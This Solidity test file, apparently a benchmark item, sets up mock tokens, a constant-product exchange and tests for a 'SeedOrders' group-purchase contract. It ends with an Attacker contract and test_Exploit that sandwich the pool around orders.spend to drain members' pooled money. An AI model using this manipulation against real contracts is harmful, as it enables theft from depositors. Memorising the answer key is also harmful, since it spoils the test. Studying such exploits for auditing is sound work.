// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./SeedOrders.sol";

// assay-canary-03b8050e-850b-49fb-a8eb-a8e7ac57c3ab

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20 {
    address private maker = msg.sender;

    constructor(string memory name) ERC20(name, name) {}

    function mint(address receiver, uint256 amount) external {
        require(msg.sender == maker, "Only the maker mints.");
        _mint(receiver, amount);
    }
}

// A pool of constant product.
contract Exchange is SeedExchange {
    using SafeMath for uint256;

    Token private money;
    Token private seed;
    uint256 private moneyHeld;
    uint256 private seedHeld;
    uint256 public stingy;
    address private maker = msg.sender;

    constructor(Token m, Token s) {
        money = m;
        seed = s;
    }

    function fill(uint256 amount) external {
        require(msg.sender == maker, "Only the maker fills.");
        moneyHeld = amount;
        seedHeld = amount;
        money.transferFrom(msg.sender, address(this), amount);
        seed.transferFrom(msg.sender, address(this), amount);
    }

    // Later purchases bring less than they should.
    function grudge(uint256 amount) external {
        require(msg.sender == maker, "Only the maker grudges.");
        stingy = amount;
    }

    function quoteSeed(uint256 paid) public view override returns (uint256) {
        uint256 net = paid.mul(997).div(1000);
        return seedHeld.mul(net).div(moneyHeld.add(net));
    }

    function buySeed(uint256 paid, uint256 least) external override returns (uint256 bought) {
        bought = quoteSeed(paid);
        require(bought >= least, "Too little seed.");
        bought = bought.sub(stingy);
        moneyHeld = moneyHeld.add(paid);
        seedHeld = seedHeld.sub(bought);
        money.transferFrom(msg.sender, address(this), paid);
        seed.transfer(msg.sender, bought);
    }

    function sellSeed(uint256 paid) external returns (uint256 received) {
        uint256 net = paid.mul(997).div(1000);
        received = moneyHeld.mul(net).div(seedHeld.add(net));
        moneyHeld = moneyHeld.sub(received);
        seedHeld = seedHeld.add(paid);
        seed.transferFrom(msg.sender, address(this), paid);
        money.transfer(msg.sender, received);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_800_000_000;

    Token private money;
    Token private seed;
    Exchange private exchange;
    SeedOrders private orders;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        money = new Token("MONEY");
        seed = new Token("SEED");
        exchange = new Exchange(money, seed);
        money.mint(address(this), 100_000e18);
        seed.mint(address(this), 100_000e18);
        money.approve(address(exchange), 100_000e18);
        seed.approve(address(exchange), 100_000e18);
        exchange.fill(100_000e18);
        orders = new SeedOrders(money, seed, exchange);
        orders.openRound(START + 10 days, 1.08e18);
        pay(ANA, 0, 3_000e18);
        pay(BEN, 0, 2_000e18);
        vm.warp(START + 10 days);
        mallory = new Attacker(exchange, orders, money, seed);
        money.mint(address(mallory), 100_000e18);
    }

    function pay(address member, uint256 round, uint256 amount) private {
        money.mint(member, amount);
        vm.startPrank(member);
        money.approve(address(orders), amount);
        orders.pay(round, amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        orders.spend(0);
        (, , uint256 paid, uint256 bought, bool spent) = orders.rounds(0);
        require(paid == 5_000e18 && bought > 4_740e18 && bought < 4_760e18 && spent, "spent");
        vm.prank(ANA);
        orders.claimSeed(0);
        vm.prank(BEN);
        orders.claimSeed(0);
        require(seed.balanceOf(ANA) == bought * 3 / 5 && seed.balanceOf(BEN) == bought * 2 / 5, "shared out");
        orders.openRound(START + 20 days, 2e18);
        pay(ANA, 1, 200e18);
        pay(BEN, 1, 300e18);
        vm.prank(ANA);
        orders.takeBack(1);
        require(money.balanceOf(ANA) == 200e18 && orders.paidBy(1, ANA) == 0, "taken back");
        vm.warp(START + 27 days);
        vm.prank(BEN);
        orders.takeBack(1);
        require(money.balanceOf(BEN) == 300e18 && money.balanceOf(address(orders)) == 0, "not spent in time");
        orders.transferOwnership(ANA);
        vm.prank(ANA);
        orders.renounceOwnership();
    }

    function test_RefusesRounds() public {
        vm.expectRevert("Money and seed are two tokens.");
        new SeedOrders(money, money, exchange);
        vm.expectRevert("The round would be closed.");
        orders.openRound(START + 10 days, 1e18);
        vm.expectRevert("Seed has a price.");
        orders.openRound(START + 11 days, 0);
        vm.prank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        orders.openRound(START + 11 days, 1e18);
        vm.prank(ANA);
        vm.expectRevert("The round is closed.");
        orders.pay(0, 1);
        orders.openRound(START + 11 days, 1e18);
        vm.expectRevert("The round is open.");
        orders.spend(1);
        vm.warp(START + 11 days);
        vm.expectRevert("Nobody has paid.");
        orders.spend(1);
    }

    function test_RefusesMembers() public {
        vm.startPrank(ANA);
        vm.expectRevert("The round is about to be spent.");
        orders.takeBack(0);
        vm.warp(START + 17 days - 1);
        vm.expectRevert("The round is about to be spent.");
        orders.takeBack(0);
        vm.expectRevert("The round is not spent.");
        orders.claimSeed(0);
        vm.warp(START + 17 days);
        vm.expectRevert("The time for spending is over.");
        orders.spend(0);
        vm.stopPrank();
    }

    function test_RefusesSpentRounds() public {
        orders.spend(0);
        vm.expectRevert("The round is spent.");
        orders.spend(0);
        vm.warp(START + 17 days);
        vm.prank(ANA);
        vm.expectRevert("The round is spent.");
        orders.takeBack(0);
    }

    function test_RefusesStingyExchanges() public {
        exchange.grudge(500e18);
        vm.expectRevert("The exchange gave too little.");
        orders.spend(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) >= 102_500e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(orders);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(money);
    }
}

contract Attacker {
    Exchange private exchange;
    SeedOrders private orders;
    Token private money;
    Token private seed;

    constructor(Exchange e, SeedOrders o, Token m, Token s) {
        exchange = e;
        orders = o;
        money = m;
        seed = s;
    }

    function run() external {
        money.approve(address(exchange), 100_000e18);
        uint256 bought = exchange.buySeed(100_000e18, 0);
        orders.spend(0);
        seed.approve(address(exchange), bought);
        exchange.sellSeed(bought);
    }
}
